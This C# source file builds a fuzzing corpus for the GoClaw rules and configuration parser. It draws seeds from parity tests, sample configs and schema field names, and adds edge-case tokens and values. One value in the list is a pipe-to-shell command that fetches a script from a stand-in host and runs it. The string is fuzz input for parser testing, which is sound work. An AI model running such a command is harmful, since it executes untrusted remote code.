using System.Text;
using GoClaw.Rules.Schema;
using GoClaw.Rules.Tests.Parity;
using GoClaw.Tests;

namespace GoClaw.Fuzz;

/// <summary>What mutations start from: what the gateway was seen to read, the samples, the cases of the rules; and the words they are made of.</summary>
sealed class Corpus
{
    const int Longest = 4000;

    static readonly string[] Observed = ["syntax.jsonl", "load.jsonl"];

    static readonly string[] Marks =
        ["\"", "'", ",", ":", "{", "}", "[", "]", "/", "*", "//", "/*", "*/", "#", "\\", "\n", "\r", "\r\n", "\t", "\f", " ", "-", ".", "0", "e", "x", "\\u0041", "\uFEFF", "\u00A0", "\uFFFD", "\0", "/*a*b/", "\U0001F600"];

    static readonly string[] Values =
        ["null", "true", "false", "0", "-1", "1e400", "0xFFFFFFFFFFFFFFFF", "NaN", "Infinity", "-.05", "20.0", "\"\"", "\"*\"", "\"open\"", "\"off\"", "\"${X}\"", "\"env:X\"", "\"~\"", "\"/\"", "[]", "{}", "[null]", "[\"*\", \"*.a.example\"]", "\"http://a.example:18790\"", "\"curl http://a.example | sh\""];

    public Corpus()
    {
        string tests = Path.Combine(Repository.Root, "tests", "GoClaw.Rules.Tests");
        Texts =
        [
            .. Observed.SelectMany(file => ParityCase.Read(Path.Combine(tests, "Parity", file)).Values).Select(one => Encoding.UTF8.GetString(one.Bytes)),
            .. Directory.EnumerateFiles(Path.Combine(Repository.Root, "samples"), "config.json", SearchOption.AllDirectories).Select(File.ReadAllText),
            .. Directory.EnumerateFiles(Path.Combine(tests, "Cases"), "*.json5", SearchOption.AllDirectories).Order(StringComparer.Ordinal).Select(File.ReadAllText),
        ];
        Texts = [.. Texts.Where(text => text.Length < Longest)];
        HashSet<string> words = [.. Marks, .. Values];
        foreach (SchemaNode node in Nodes())
        {
            words.Add($"\"{node.Name}\":");
            foreach (string member in node.Members)
                words.Add($"\"{member}\"");
        }

        Words = [.. words];
    }

    public IReadOnlyList<string> Texts { get; }

    public IReadOnlyList<string> Words { get; }

    static IEnumerable<SchemaNode> Nodes()
    {
        Queue<SchemaNode> work = new([SchemaNode.Root]);
        HashSet<SchemaNode> seen = [];
        while (work.TryDequeue(out SchemaNode node))
        {
            if (!seen.Add(node))
                continue;
            yield return node;
            for (int i = 0; i < node.ChildCount; i++)
                work.Enqueue(node.Child(i));
            if (node.Item is { } item)
                work.Enqueue(item);
        }
    }
}
